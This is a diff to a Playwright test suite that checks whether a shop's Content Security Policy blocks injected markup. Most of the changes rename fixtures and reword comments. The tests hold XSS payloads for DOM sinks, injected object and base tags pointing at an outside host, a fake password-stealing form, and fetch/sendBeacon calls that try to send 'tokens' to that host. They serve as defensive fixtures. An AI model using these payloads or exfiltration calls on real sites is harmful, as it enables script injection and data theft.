@@ -3,9 +3,9 @@ import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright/test';
 import { expect, test } from './fixtures.ts';
 
-test.use({ expected: [/Content Security Policy|TrustedHTML|TrustedScript|status of 404/i], provoked: [/^/] });
+test.use({ expected: [/Content Security Policy|TrustedHTML|TrustedScript|status of 404/i], expectedViolations: [/^/] });
 
-/** What somebody who got a foothold would do with a text. */
+/** The sinks through which an attacker could run injected text. */
 const sinks: Record<string, (text: string) => unknown> = {
   innerHTML: (text) => {
     document.body.innerHTML = text;
@@ -36,20 +36,20 @@ const sinks: Record<string, (text: string) => unknown> = {
 };
 
 for (const [name, sink] of Object.entries(sinks)) {
-  test(`a text given to ${name} throws`, async ({ page, trespasses }) => {
+  test(`passing a string to ${name} throws`, async ({ page, policyViolations }) => {
     await page.goto('/about');
     const before = await page.locator('body').innerHTML();
-    // A moment later: what a debugger evaluates may evaluate, too.
+    // Run it in a timer, because code evaluated by the debugger is exempt from the policy.
     const thrown = await page.evaluate(`new Promise((resolve) => setTimeout(() => {
       try { resolve((${sink})('<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>')); } catch (error) { resolve(error.name); }
     }))`);
     expect(['TypeError', 'EvalError']).toContain(thrown);
     expect(await page.locator('body').innerHTML()).toBe(before);
-    await expect.poll(() => trespasses.violations.length).toBeGreaterThan(0);
+    await expect.poll(() => policyViolations.violations.length).toBeGreaterThan(0);
   });
 }
 
-/** A page of the shop into whose markup somebody got. */
+/** Opens a page with markup injected after its heading. */
 async function injected(page: Page, markup: string): Promise<void> {
   await page.route('/about', async (route) => {
     const response = await route.fetch();
@@ -75,29 +75,29 @@ for (const [what, markup] of [
   ['an object', `<object data="${AWAY}/a.swf"></object>`],
   ['a base', `<base href="${AWAY}/">`],
 ] as const) {
-  test(`${what} that got into the markup does nothing`, async ({ page, trespasses }) => {
-    // Whatever is asked of another host after all gets an answer that would run.
+  test(`${what} injected into the markup does nothing`, async ({ page, policyViolations }) => {
+    // If a request reaches the other host, the response is a script that would run.
     await page.route(`${AWAY}/**`, (route) => route.fulfill({ contentType: 'text/javascript', body: 'hacked = 1' }));
     await injected(page, markup);
-    await expect.poll(() => trespasses.violations.length).toBeGreaterThan(0);
-    await expect.poll(() => trespasses.strangers).toEqual([]);
+    await expect.poll(() => policyViolations.violations.length).toBeGreaterThan(0);
+    await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
     expect(await page.evaluate(() => document.baseURI)).not.toContain(AWAY);
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   });
 }
 
-test('a form that got into the markup sends nothing to another host', async ({ page, trespasses }) => {
+test('an injected form sends nothing to another host', async ({ page, policyViolations }) => {
   await injected(page, `<form action="${AWAY}/steal"><input name="password"><button>Sign in here</button></form>`);
-  // Not by a click, which would wait for the page that never comes.
+  // A click would wait for a navigation that never happens.
   await page.evaluate(() =>
     setTimeout(() => document.querySelector<HTMLFormElement>('form[action$=steal]')?.requestSubmit()),
   );
-  await expect.poll(() => trespasses.violations.join()).toContain('form-action');
-  expect(trespasses.strangers).toEqual([]);
+  await expect.poll(() => policyViolations.violations.join()).toContain('form-action');
+  expect(policyViolations.unknownOriginRequests).toEqual([]);
 });
 
-test('a script of the shop that was taken over tells nobody', async ({ page, trespasses }) => {
+test('a compromised script of the shop cannot send data to another host', async ({ page, policyViolations }) => {
   await page.goto('/about');
   const sent = await page.evaluate(async (address) => {
     const tries = [
@@ -109,12 +109,12 @@ test('a script of the shop that was taken over tells nobody', async ({ page, tre
       .concat(navigator.sendBeacon(address, 'tokens') ? 'fulfilled' : 'rejected');
   }, `${AWAY}/`);
   expect(sent.slice(0, 2)).toEqual(['rejected', 'rejected']);
-  await expect.poll(() => trespasses.violations.length).toBeGreaterThan(2);
-  await expect.poll(() => trespasses.strangers).toEqual([]);
+  await expect.poll(() => policyViolations.violations.length).toBeGreaterThan(2);
+  await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
 });
 
-test('no other site shows the shop in a frame', async ({ page, origins, baseURL }) => {
-  // A real one: what the test answers by itself has no address, from which Chromium lets no page of this machine be framed.
+test('another site cannot frame the shop', async ({ page, origins, baseURL }) => {
+  // A real server: Chromium does not let a mocked response, which has no IP address, frame a page of this machine.
   const framer = createServer((_, response) => {
     response.setHeader('content-type', 'text/html');
     response.end(`<h2>Framer</h2><iframe src="${baseURL}/about"></iframe>`);
@@ -129,8 +129,8 @@ test('no other site shows the shop in a frame', async ({ page, origins, baseURL 
   framer.close();
 });
 
-test('a host that is not on the inventory is noticed', async ({ page, trespasses }) => {
+test('a request to a host that is not in the inventory is reported', async ({ page, policyViolations }) => {
   await page.route(`${AWAY}/`, (route) => route.fulfill({ contentType: 'text/html', body: 'Hello' }));
   await page.goto(`${AWAY}/`);
-  expect(trespasses.strangers).toEqual([`document ${AWAY}/`]);
+  expect(policyViolations.unknownOriginRequests).toEqual([`document ${AWAY}/`]);
 });
